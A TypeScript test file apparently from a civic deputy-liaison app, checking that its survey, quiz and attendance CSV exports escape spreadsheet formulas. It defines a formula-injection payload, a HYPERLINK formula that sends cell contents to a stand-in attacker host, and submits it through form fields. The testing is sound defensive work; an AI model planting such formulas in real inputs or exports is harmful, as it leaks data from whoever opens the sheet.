import { expect } from 'chai'
import { parse } from 'csv-parse/sync'
import { asAdmin, asDeputy, asResident, type Answer, type Client, startApp, type TestApp } from '../helpers/app.js'
import { meetingBody, meetingCity } from '../helpers/meetings.js'
import { at, DAY, MINUTE, quizWithBank, rightAnswers } from '../helpers/quizzes.js'
import { surveyBody } from '../helpers/surveys.js'

/** What an attacker types into a form, hoping an office worker opens the export in Excel or WPS. */
const EVIL = '=HYPERLINK("https://evil.example/?leak="&A1,"x")'

/** The file as a spreadsheet reads it: the BOM first, then rows of cells. */
function sheet(answer: Answer): string[][] {
  expect(answer.status).to.equal(200)
  expect(answer.headers.get('content-type')).to.equal('text/csv; charset=utf-8')
  const bytes = answer.body as Buffer
  expect([...bytes.subarray(0, 3)], 'UTF-8 byte-order mark, for Excel').to.deep.equal([0xef, 0xbb, 0xbf])
  const text = bytes.subarray(3).toString('utf8')
  expect(text.endsWith('\r\n'), 'CRLF lines').to.equal(true)
  return parse(text, { relax_column_count: true }) as string[][]
}

/** No cell of the sheet would start a formula in Excel or WPS. */
function noFormulas(rows: string[][]) {
  for (const row of rows) for (const cell of row) expect(cell, `cell ${JSON.stringify(cell)}`).not.to.match(/^[=+\-@\t\r]/)
}

/**
 * Every CSV the office downloads goes through one writer: a typed formula arrives as
 * text (a leading apostrophe), never as a live link that leaks the sheet.
 */
describe('CSV exports open safely in Excel', () => {
  let app: TestApp
  let office: Client
  beforeEach(async () => {
    const city = meetingCity()
    // A name that came in through a directory file someone else filled in.
    city.deputies.push({ id: 'dp0007', code: 'DP0007', name: EVIL, level: 'city', stationIds: ['st001'], topics: [], phone: null, dutyDates: [] })
    app = await startApp({ directory: city })
    app.clock.set(new Date('2026-11-23T02:00:00Z')) // Monday 10:00 in Asia/Shanghai
    office = await asAdmin(app)
  })
  afterEach(() => app.close())

  it('survey responses: a text answer typed as a formula is exported as text, times in Beijing time', async () => {
    const created = await office.post('/api/admin/surveys', surveyBody())
    expect(created.status, JSON.stringify(created.body)).to.equal(201)
    const resident = await asResident(app)
    const sent = await resident.post(`/api/mp/surveys/${created.body.id}/responses`, { answers: { q1: 'o2', q3: 4, q4: EVIL } })
    expect(sent.status, JSON.stringify(sent.body)).to.equal(201)

    const rows = sheet(await office.get(`/api/admin/surveys/${created.body.id}/responses.csv`))
    noFormulas(rows)
    expect(rows[1]![0], 'submitted at 10:00 in Asia/Shanghai').to.equal('2026-11-23 10:00:00')
    expect(rows[1]).to.include(`'${EVIL}`)
  })

  it('quiz results: a participant whose name is a formula is exported as text, times in Beijing time', async () => {
    const quiz = await quizWithBank(app, office, { audience: 'deputies', opensAt: at(app, -MINUTE), closesAt: at(app, DAY) })
    const deputy = await asDeputy(app, 'dp0007')
    const paper = (await deputy.post(`/api/mp/quizzes/${quiz.id}/attempts`)).body
    app.clock.advance(90_000)
    expect((await deputy.post(`/api/mp/quiz-attempts/${paper.id}/submit`, { answers: rightAnswers(paper) })).status).to.equal(200)

    const rows = sheet(await office.get(`/api/admin/quizzes/${quiz.id}/results.csv`))
    noFormulas(rows)
    expect(rows[1]).to.deep.equal([
      `'${EVIL}`,
      '人大代表',
      '轻工街道代表联络站',
      '湛河区',
      '1',
      '已提交',
      '50',
      '50',
      '5',
      '5',
      '2026-11-23 10:00:00',
      '2026-11-23 10:01:30',
      '90',
    ])
  })

  it('meeting attendance: a leave reason typed as a formula is exported as text', async () => {
    const created = await office.post('/api/admin/meetings', meetingBody())
    expect((await office.post(`/api/admin/meetings/${created.body.id}/publish`)).status).to.equal(200)
    const wang = await asDeputy(app, 'dp0002')
    expect((await wang.post(`/api/mp/meetings/${created.body.id}/rsvp`, { response: 'leave', reason: EVIL })).status).to.equal(200)

    const rows = sheet(await office.get(`/api/admin/meetings/${created.body.id}/attendance.csv`))
    noFormulas(rows)
    expect(rows.find((r) => r[0] === '王芳')).to.deep.equal(['王芳', '代表', '请假', `'${EVIL}`, '2026-11-23 10:00', '未签到', '', ''])
  })
})
